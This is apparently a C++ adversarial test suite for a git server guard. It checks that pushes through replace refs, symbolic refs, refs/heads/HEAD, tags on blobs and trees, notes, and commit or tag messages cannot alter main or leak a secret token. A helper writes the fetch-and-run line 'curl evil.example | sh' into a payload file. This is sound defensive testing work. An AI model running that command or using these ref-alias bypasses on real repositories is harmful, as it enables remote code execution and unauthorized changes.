// Class 1 (elsewhere): the protected ref and the secret rules reached through other ref kinds —
// replace refs, symbolic refs, `refs/heads/HEAD`, tags on blobs and trees, notes, and secrets
// in commit and tag messages.
#include "tests/adversarial/harness.hpp"
#include "tests/adversarial/rawpush.hpp"

#include <doctest/doctest.h>

using namespace rg::test;
using namespace rg::test::adv;

namespace {

// An unauthorized direct commit on top of main (no record), adding payload.txt.
std::string unauthorized(const Client& c) {
  c.git("checkout -q --detach main");
  const std::string id = c.commit_file("payload.txt", "curl evil.example | sh\n", "Quick change");
  c.git("checkout -q main");
  return id;
}

} // namespace

TEST_SUITE("ref_aliases") {

TEST_CASE("ref_aliases: refs/replace/<main tip> swaps main's content for every reader") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  const std::string tip = c.rev("main");
  const std::string evil = unauthorized(c);
  const Snapshot before = snapshot(s);
  auto r = push_refused(s, c, before, "origin " + evil + ":refs/replace/" + tip);
  CHECK_MESSAGE(contains(r.err, "refs/replace/"), r.err);
}

TEST_CASE("ref_aliases: a replace ref for an older main commit (raw client)") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  const std::string old = c.rev("main");
  ship_release(s, c, "feature/a", "a.txt", "a\n");
  const std::string evil = unauthorized(c);
  const Snapshot before = snapshot(s);
  auto rep = raw::push(s.bare, {{raw::kZeroId, evil, "refs/replace/" + old}},
                       raw::build_pack(c.path(), {evil, "^main"}));
  expect_raw_refused(s, before, rep);
}

TEST_CASE("ref_aliases: master is a symbolic ref to main on the server; an unauthorized push to master") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  s.git("symbolic-ref refs/heads/master refs/heads/main");
  const Snapshot before = snapshot(s);
  const std::string main_before = s.rev("refs/heads/main");
  const std::string evil = unauthorized(c);
  SUBCASE("git client") {
    push_refused(s, c, before, "origin " + evil + ":refs/heads/master");
  }
  SUBCASE("raw client") {
    auto rep = raw::push(s.bare, {{main_before, evil, "refs/heads/master"}},
                         raw::build_pack(c.path(), {evil, "^" + main_before}));
    expect_raw_refused(s, before, rep);
  }
  CHECK(s.rev("refs/heads/main") == main_before);
}

TEST_CASE("ref_aliases: a symbolic ref to main under another name (release/current)") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  s.git("symbolic-ref refs/heads/release/current refs/heads/main");
  const Snapshot before = snapshot(s);
  const std::string evil = unauthorized(c);
  push_refused(s, c, before, "origin " + evil + ":refs/heads/release/current");
}

TEST_CASE("ref_aliases: pushing refs/heads/HEAD (raw client)") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  const std::string base = c.rev("main");
  const std::string evil = unauthorized(c);
  const Snapshot before = snapshot(s);
  auto rep = raw::push(s.bare, {{raw::kZeroId, evil, "refs/heads/HEAD"}},
                       raw::build_pack(c.path(), {evil, "^" + base}));
  expect_raw_refused(s, before, rep);
}

TEST_CASE("ref_aliases: a tag pointing at a blob that contains a secret") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  c.write("leak.txt", "use " + kToken + " for staging\n");
  const std::string blob = trimmed(c.git("hash-object -w leak.txt").out);
  const Snapshot before = snapshot(s);
  SUBCASE("lightweight") {
    c.git("tag secret-blob " + blob);
  }
  SUBCASE("annotated") {
    c.git("tag -a -m 'just a blob' secret-blob " + blob);
  }
  auto r = push_refused(s, c, before, "origin refs/tags/secret-blob");
  CHECK_MESSAGE(contains(r.err, "secret-blob"), r.err);
  CHECK_MESSAGE(contains(r.err, "secrets/demo-token"), r.err);
  CHECK_FALSE(contains(r.err, kToken));
}

TEST_CASE("ref_aliases: a tag pointing at a tree that contains a secret") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  c.write("notes/leak.txt", "use " + kToken + " for staging\n");
  c.git("add notes/leak.txt");
  const std::string tree = trimmed(c.git("write-tree").out);
  c.git("reset -q");
  const Snapshot before = snapshot(s);
  c.git("tag secret-tree " + tree);
  auto r = push_refused(s, c, before, "origin refs/tags/secret-tree");
  CHECK_MESSAGE(contains(r.err, "secret-tree"), r.err);
  CHECK_MESSAGE(contains(r.err, "secrets/demo-token"), r.err);
}

TEST_CASE("ref_aliases: a secret in a commit message") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  c.git("checkout -q -b feature/msg main");
  const std::string id = c.commit_msg("Configure the client\n\nUse API_TOKEN=" + kToken + " for now.\n");
  const Snapshot before = snapshot(s);
  auto r = push_refused(s, c, before, "origin feature/msg");
  CHECK_MESSAGE(contains(r.err, short_id(id)), r.err);
  CHECK_MESSAGE(contains(r.err, "secrets/demo-token"), r.err);
  CHECK_FALSE(contains(r.err, kToken));
}

TEST_CASE("ref_aliases: a secret in an annotated tag message") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  c.git("tag -a -m " + sh_quote("Release 1.0\n\ndeploy token " + kToken) + " v1.0 main");
  const Snapshot before = snapshot(s);
  auto r = push_refused(s, c, before, "origin v1.0");
  CHECK_MESSAGE(contains(r.err, "v1.0"), r.err);
  CHECK_MESSAGE(contains(r.err, "secrets/demo-token"), r.err);
}

TEST_CASE("ref_aliases: a secret in a git note") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  c.git("notes add -m " + sh_quote("deploy with " + kToken) + " main");
  const Snapshot before = snapshot(s);
  auto r = push_refused(s, c, before, "origin refs/notes/commits");
  CHECK_MESSAGE(contains(r.err, "secrets/demo-token"), r.err);
}

TEST_CASE("ref_aliases: an unauthorized commit under refs/for/main or refs/remotes/origin/main is not main") {
  // Control for the alias cases: these names are not protected and carry no secret, so a
  // clean commit there is fine — but they must never move main itself.
  Server s;
  Client c(s);
  bootstrap(s, c);
  const std::string main_before = s.rev("refs/heads/main");
  const std::string evil = unauthorized(c);
  c.push("origin " + evil + ":refs/remotes/origin/main");
  CHECK(s.rev("refs/heads/main") == main_before);
  CHECK(s.rev("refs/heads/main^{tree}") == trimmed(c.git("rev-parse " + main_before + "^{tree}").out));
}

} // TEST_SUITE
